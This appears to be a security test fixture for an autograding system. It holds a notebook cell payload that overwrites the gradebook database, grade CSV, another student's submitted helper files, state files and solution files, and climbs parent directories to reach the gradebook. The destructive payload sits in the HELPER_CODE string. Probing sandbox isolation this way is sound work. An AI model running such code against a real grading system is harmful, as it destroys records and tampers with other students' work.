"""Overwrite the gradebook, another student's files, the feedback, the repository."""
HELPER_CODE = '''
import glob as _glob, os as _os
def _smash(path, data=b"PWNED"):
    try:
        with open(path, "wb") as fh:
            fh.write(data)
    except Exception:
        pass
_smash("{OUT}/gradebook.db")
_smash("{OUT}/grades.csv")
_smash("{ROOT}/PWNED_BY_A_LEARNER")
for _pattern in ("{OUT}/submitted/victim/*/helpers/*.py", "{OUT}/autograded/victim/*/helpers/*.py",
                 "{OUT}/state/*.json", "{ROOT}/solutions/*.py"):
    for _f in _glob.glob(_pattern):
        _smash(_f)
for _up in ("../../..", "../../../.."):
    _smash(_os.path.join(_up, "gradebook.db"))
'''
CELLS = [HELPER_CODE]
